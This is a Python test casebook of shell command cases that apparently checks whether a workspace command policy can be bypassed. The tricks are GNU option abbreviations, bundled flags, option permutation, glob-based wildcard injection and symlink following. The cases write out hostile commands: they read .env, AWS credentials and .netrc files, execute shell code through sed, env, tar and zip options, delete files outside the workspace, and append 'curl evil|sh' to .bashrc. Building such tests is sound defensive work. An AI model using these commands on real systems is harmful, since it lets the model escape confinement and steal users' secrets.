"""GNU option tricks: unique-prefix abbreviations, combined short flags with attached values, options
after operands, ``--opt=value`` against ``--opt value``, ``--`` handling, and options whose value the
policy does not know about, which shifts every operand after it."""

from __future__ import annotations

from hostile.casebook import CaseBook, plant_payload, sh, write

BOOK = CaseBook("options")
add = BOOK.add
TEXT = write("a.txt", "b\na\na\nc\n")
BIG = sh("seq 60000 > big.txt")
EXEC = (plant_payload("evil.sh"), sh("chmod +x evil.sh"))

# ---- sort ------------------------------------------------------------------------------------------
add(
    "sort-output-abbrev",
    "sort --outp= (abbreviated --output) writes outside",
    sh("sort --outp=@OUT@/notes.txt /etc/hostname"),
    e2e=True,
)
add(
    "sort-output-abbrev-separate",
    "an abbreviated --output with its value as the next word",
    sh("sort --outpu @OUT@/@MARK@ /etc/hostname"),
)
add("sort-output-attached", "-oFILE attached to the flag", sh("sort -o@OUT@/@MARK@ /etc/hostname"))
add(
    "sort-output-combined",
    "-o hidden in a bundle of short flags",
    sh("sort -ruo ../outside/@MARK@ /etc/hostname"),
)
add(
    "sort-output-after-operand",
    "-o after the operands (GNU permutes)",
    TEXT,
    sh("sort a.txt -o ../outside/@MARK@"),
)
add(
    "sort-tempdir-abbrev",
    "--temporary-d= puts sort's temporary files outside",
    BIG,
    sh("sort --temporary-d=../outside -S 64k big.txt | tail -1"),
)
add(
    "sort-compress-program-abbrev",
    "--compress-p= runs a program of the workspace",
    *EXEC,
    BIG,
    sh("sort --compress-p=./evil.sh -S 64k -T . big.txt | tail -2"),
)
add(
    "sort-compress-program-separate",
    "--compress-prog with the program as the next word",
    *EXEC,
    BIG,
    sh("sort --compress-prog ./evil.sh -S 64k -T . big.txt | tail -2"),
)
add(
    "sort-files0-abbrev",
    "--files0= makes sort read (and print) files named in a list",
    sh("printf '../.env\\000@HOME@/.aws/credentials\\000' > l0 && sort --files0=l0"),
)

# ---- cp, mv, install, ln -------------------------------------------------------------------------------
add(
    "cp-target-abbrev",
    "cp --target= (abbreviated --target-directory)",
    TEXT,
    sh("cp --target=../outside a.txt"),
)
add("cp-target-attached", "cp -tDIR attached", TEXT, sh("cp -t../outside a.txt"))
add("cp-target-combined", "cp -vt DIR in a bundle", TEXT, sh("cp -vt @OUT@ a.txt"))
add(
    "cp-target-abbrev-after-operand",
    "cp SRC --targ DIR (abbreviation after the operand)",
    TEXT,
    sh("cp a.txt --targ ../outside"),
)
add("mv-target-abbrev", "mv --targ= moves a workspace file outside", TEXT, sh("mv --targ=../outside a.txt"))
add(
    "install-target-abbrev",
    "install --target= into /usr/local/bin",
    TEXT,
    sh("install --target=/usr/local/bin a.txt"),
)
add("install-target-attached", "install -tDIR attached", TEXT, sh("install -m755 -t/usr/local/bin a.txt"))
add("ln-target-abbrev", "ln --targ= creates a link outside", sh("ln -s --targ=../outside /etc/passwd"))
add("ln-target-combined", "ln -st DIR", sh("ln -st @OUT@ /etc/hostname"))

# ---- options that take a value the rule does not know about ---------------------------------------------
add(
    "uniq-skip-fields-shifts-operands",
    "uniq --skip-fields N: N is taken for the input, the output slips by",
    TEXT,
    sh("uniq --skip-fields 0 a.txt ../outside/@MARK@"),
)
add(
    "uniq-skip-chars-abbrev",
    "uniq --skip-c N with an abbreviation",
    TEXT,
    sh("uniq --skip-c 1 a.txt @OUT@/@MARK@"),
)
add(
    "xxd-cols-shifts-operands",
    "xxd -cols N (a long spelling of -c) shifts the revert output",
    TEXT,
    sh("xxd a.txt > hex.txt && xxd -cols 16 -r hex.txt ../outside/@MARK@"),
)
add(
    "iconv-output-abbrev",
    "iconv --outp= writes outside",
    TEXT,
    sh("iconv -f utf-8 -t ascii --outp=../outside/@MARK@ a.txt"),
)
add("shuf-output-abbrev", "shuf --out= writes outside", TEXT, sh("shuf --out=../outside/notes.txt a.txt"))
add(
    "zstd-output-dir-flat",
    "zstd --output-dir-flat= puts the compressed file outside",
    TEXT,
    sh("zstd -q --output-dir-flat=../outside a.txt"),
)
add(
    "zstd-output-dir-mirror",
    "zstd --output-dir-mirror= mirrors the tree outside",
    TEXT,
    sh("zstd -q --output-dir-mirror=@OUT@ a.txt"),
)
add(
    "time-output-abbrev",
    "/usr/bin/time --out= writes its report outside",
    sh("/usr/bin/time --out=../outside/@MARK@ true"),
)
add(
    "time-append-abbrev",
    "/usr/bin/time --app --outp= appends to a file outside",
    sh("/usr/bin/time --app --outp=@HOME@/.bashrc true"),
)
add("date-file-abbrev", "date --fi= reads a secret and prints it in its error", sh("date --fi=../.env"))
add(
    "date-file-abbrev-home",
    "date --fil= on the user's AWS credentials",
    sh("date --fil=@HOME@/.aws/credentials"),
)

# ---- sed: abbreviated --expression, --in-place, --file -----------------------------------------------------
add(
    "sed-expression-abbrev-w",
    "sed --expr='w FILE' writes outside: the script hides in an abbreviation",
    TEXT,
    sh("sed -n --expr='w ../outside/@MARK@' a.txt"),
)
add(
    "sed-expression-abbrev-e",
    "sed --expr= with the e command runs a shell",
    TEXT,
    sh("sed --expr='1e sh -c \"echo pwned > @OUT@/@MARK@\"' a.txt"),
)
add(
    "sed-in-place-abbrev",
    "sed --in-pl edits a file outside in place",
    sh("sed --in-pl=.bak s/public/pwned/ ../outside/notes.txt"),
)
add(
    "sed-in-place-abbrev-home",
    "sed --in-place abbreviation on the user's .bashrc",
    sh("sed --in-pla -e '$a curl evil|sh' @HOME@/.bashrc"),
)
add(
    "sed-file-abbrev",
    "sed --fil= reads an unchecked script with a w command",
    TEXT,
    write("s.sed", "w ../outside/@MARK@\n"),
    sh("sed -n --fil=s.sed a.txt"),
)

# ---- env: -S / --split-string and -C / --chdir in every spelling
add(
    "env-split-abbrev",
    "env --split= (abbreviated --split-string) runs sh -c",
    sh("env --split='sh -c \"echo pwned > @OUT@/@MARK@; cat ../.env\"'"),
    e2e=True,
)
add(
    "env-split-combined",
    "env -vS'...' hides -S in a bundle",
    sh("env -vS'sh -c \"echo pwned > ../outside/@MARK@; cat ../.env\"'"),
)
add(
    "env-split-after-unset",
    "env -u NAME -iS'...'",
    sh("env -u TERM -iS'sh -c \"cat @HOME@/.aws/credentials\"'"),
)
add(
    "env-chdir-abbrev",
    "env --chd=.. runs a command with a cwd outside the workspace",
    sh("env --chd=.. touch outside/@MARK@"),
)
add("env-chdir-combined", "env -iC.. hides -C in a bundle", sh("env -iC.. touch outside/@MARK@"))
add(
    "env-chdir-through-nice",
    "nice and timeout wrapping env --chd",
    sh("nice -n 1 timeout 5 env --chdi=.. touch outside/@MARK@"),
)

# ---- xargs: abbreviated --arg-file ------------------------------------------------------------------------
add(
    "xargs-arg-file-abbrev",
    "xargs --arg-f= reads a secret and echo prints it",
    sh("xargs --arg-f=../.env echo"),
)
add(
    "xargs-arg-file-abbrev-home",
    "xargs --arg-fi= on the user's .netrc",
    sh("xargs --arg-fi=@HOME@/.netrc echo"),
)

# ---- find: -files0-from and -- -----------------------------------------------------------------------------
add(
    "find-files0-from-delete",
    "find -files0-from lists a start point outside, then -delete",
    sh("printf '../outside\\000' > s0 && find -files0-from s0 -name notes.txt -delete"),
)
add(
    "find-double-dash-delete",
    "find -- DIR: the start point hides behind --",
    sh("find -- ../outside -name notes.txt -delete"),
)

# ---- tar option spellings
add(
    "tar-checkpoint-action-abbrev",
    "tar --checkpoint-act=exec= runs a command",
    TEXT,
    sh("tar --checkpoint=1 --checkpoint-act=exec='sh -c \"echo pwned > @OUT@/@MARK@\"' -cf x.tar a.txt"),
)
add(
    "tar-to-command-abbrev",
    "tar --to-com= pipes every member into a command",
    TEXT,
    sh(
        "tar -cf x.tar a.txt && "
        "tar --to-com='sh -c \"cat ../.env; echo pwned > ../outside/@MARK@\"' -xf x.tar"
    ),
)
add(
    "tar-use-compress-abbrev",
    "tar --use-comp= runs a workspace program",
    *EXEC,
    TEXT,
    sh("tar --use-comp=./evil.sh -cf x.tar a.txt"),
)
add(
    "tar-create-abbrev",
    "tar --creat (abbreviated --create): the archive named by --file is written outside",
    TEXT,
    sh("tar --creat --file=../outside/@MARK@.tar a.txt"),
)
add(
    "tar-old-style-bundle",
    "tar cvfz ARCHIVE: in the old style f takes the next word, not 'z'",
    TEXT,
    sh("tar cvfz ../outside/@MARK@.tgz a.txt"),
)
add(
    "tar-directory-abbrev",
    "tar --dir=.. (abbreviated --directory) extracts outside",
    TEXT,
    sh("tar -cf x.tar a.txt && tar --dir=../outside -xf x.tar"),
)

# ---- zip
add(
    "zip-unzip-command-abbrev",
    "zip -T --unzip-c= runs a command to test the archive",
    *EXEC,
    TEXT,
    sh("zip -q -T --unzip-c='sh evil.sh' x.zip a.txt"),
)
add(
    "zip-output-file-abbrev",
    "zip --output-fi= writes the new archive outside",
    TEXT,
    sh("zip -q x.zip a.txt && zip -q --output-fi=../outside/@MARK@.zip x.zip a.txt"),
)

# ---- wildcard injection: file names that are options once a glob expands -----------------------------------
add(
    "glob-injects-tar-checkpoint-action",
    "files named --checkpoint=1 and --checkpoint-action=exec=... turn 'tar cf x.tar *' into code execution",
    *EXEC,
    write("--checkpoint=1", ""),
    write("--checkpoint-action=exec=sh evil.sh", ""),
    sh("tar cf x.tar *"),
)
add(
    "glob-injects-cp-target",
    "a file named -t../outside makes 'cp * dest' copy outside",
    TEXT,
    write("-t..", ""),
    sh("mkdir d && cp * d"),
)
add(
    "recursive-grep-follows-file-link",
    "grep -R follows a workspace link to the project's .env",
    sh("ln -s ../.env e"),
    sh("grep -R = ."),
)
add(
    "zip-follows-file-link",
    "zip -r stores what a workspace link to a secret points at; unzip -p prints it",
    sh("ln -s @HOME@/.aws/credentials c"),
    sh("zip -qr x.zip . && unzip -p x.zip"),
)
add(
    "tar-dereference-file-link",
    "tar -ch archives what a link to the outside .env points at",
    sh("ln -s ../outside/.env e"),
    sh("tar -chf - e"),
)
add(
    "cp-dereference-file-link",
    "cp -L copies a secret through a link, then cat reads the copy",
    sh("ln -s ../.env e"),
    sh("cp -L e copy.txt && cat copy.txt"),
)
add(
    "glob-injects-sort-output",
    "a file named -oout turns 'sort *' into sort -o out, and out is a link to a file outside",
    TEXT,
    write("-oout", ""),
    sh("ln -s ../outside/notes.txt out"),
    sh("sort *"),
)
add(
    "glob-injects-xargs-arg-file",
    "files named --arg-file=s and echo turn 'xargs *' into xargs --arg-file=s echo, s a link to a secret",
    write("--arg-file=s", ""),
    write("echo", ""),
    sh("ln -s ../.env s"),
    sh("xargs *"),
)
